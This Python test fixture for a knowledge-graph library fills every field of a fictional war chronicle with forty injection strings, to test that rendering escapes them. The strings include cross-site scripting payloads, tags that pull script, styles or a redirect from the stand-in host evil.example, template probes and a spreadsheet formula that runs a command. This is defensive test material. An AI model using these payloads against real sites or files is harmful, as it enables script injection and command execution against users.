"""A war told in hostile words: forty strings that try to become markup, in every field of text."""

from kg.dates import Moment, Span
from kg.model import Actor, Chronicle, Claim, Event, Evidence, Name, Place, Source, Tie

# each leaves a trace where it becomes what it wants to be: an element `evil`, an attribute `onx`,
# an address with `javascript:`, a global `pwned`
STRINGS = (
    "<evil>x</evil>",
    "</title><evil>",
    "</textarea><evil>",
    "</script><script>pwned=1</script>",
    "<script>pwned=1</script>",
    "<ScRiPt>pwned=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=pwned=1>",
    "<svg onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<body onload=pwned=1>",
    "<iframe src=javascript:pwned=1></iframe>",
    "<a href=javascript:pwned=1>x</a>",
    "<form action=javascript:pwned=1><button>x</button></form>",
    "<math><mi xlink:href=javascript:pwned=1>x</mi></math>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<object data=//evil.example></object>",
    '" onx="pwned=1',
    "' onx='pwned=1",
    '"><evil onx=1>',
    "'><evil onx=1>",
    "` onx=`1",
    " onx=1 x=",
    "javascript:pwned=1",
    "JaVaScRiPt:pwned=1",
    "java\tscript:pwned=1",
    "data:text/html,<script>pwned=1</script>",
    "--><evil>",
    "<!--<evil>",
    "]]><evil>",
    "<![CDATA[<evil>]]>",
    "{{ 7 * 7 }}{% raw %}<evil>",
    "${pwned=1}#{pwned=1}",
    "&lt;evil&gt;&#60;evil&#62;",
    "\u2028</script><evil>\u2029",
    "\u202e<evil>\u202c",
    "=cmd|'/c calc'!A1",
)


TITLE = f"{STRINGS[4]} {STRINGS[20]}"


def hostile_war() -> Chronicle:
    """A chronicle whose every text is one of the strings, addresses of sources too.

    `kg check` refuses such addresses; a build that somebody else made may hold them.
    """
    told = list(enumerate(STRINGS))
    return Chronicle(
        TITLE,
        {f"a{n}": _actor(n, text) for n, text in told},
        {f"p{n}": _place(n, text) for n, text in told},
        {f"s{n}": _source(n, text) for n, text in told},
        tuple(claim for n, text in told for claim in _claims(n, text)),
    )


def _place(n: int, text: str) -> Place:
    return Place(
        f"p{n}",
        "town",
        f"{text} {n}",
        (f"{text} alias {n}",),
        (Name(f"{text} name {n}", "ar"),),
        latitude=str(n),
        longitude=str(n),
        same=(f"wikidata:{text}", f"{text}:{n}"),
        note=text,
    )


def _actor(n: int, text: str) -> Actor:
    kind = "state" if n % 2 else "armed-group"
    return Actor(
        f"a{n}",
        kind,
        f"{text} {n}",
        (f"{text} alias {n}",),
        (Name(f"{text} name {n}", "ar"),),
        (f"{text} people {n}",),
        (f"{text} seat {n}",),
        same=(f"wikidata:{text}", f"{text}:{n}"),
        note=text,
    )


def _source(n: int, text: str) -> Source:
    address = text if n % 2 else f"https://news.example/{text}"
    day = Moment.parse(f"2020-01-{n % 28 + 1:02}")
    return Source(
        f"s{n}", "article", text, text, day, address, day, "B", "en", agency=text, note=text
    )


def _claims(n: int, text: str) -> list[Claim]:
    last = len(STRINGS)
    tie = Tie.between("backing", f"a{n}", f"a{(n + 1) % last}")
    feud = Tie.between("opposition", f"a{n}", f"a{(n + 2) % last}")
    leads = Tie.between("leadership", f"a{n}", f"a{(n + 3) % last}")
    happened = Event("battle", f"e{n}", text)
    span = Span.parse(f"2020-01-{n % 28 + 1:02}", words=text)
    quote = Evidence(text, text, text, 10, 10 + len(text), text, text)
    said = {
        "source": f"s{n}",
        "evidence": quote,
        "note": text,
        "according_to": f"a{(n + 4) % last}",
    }
    roles = (("attacker", (f"a{n}",)), ("defender", (f"a{(n + 1) % last}",)))
    return [
        Claim(tie, span=span, means=("weapons",), **said),
        Claim(tie, polarity="denies", certainty="alleged", span=span, **said),
        Claim(feud, span=span, **said),
        Claim(leads, span=span, post=text, **said),
        Claim(happened, span=span, place=f"p{n}", roles=roles, **said),
    ]
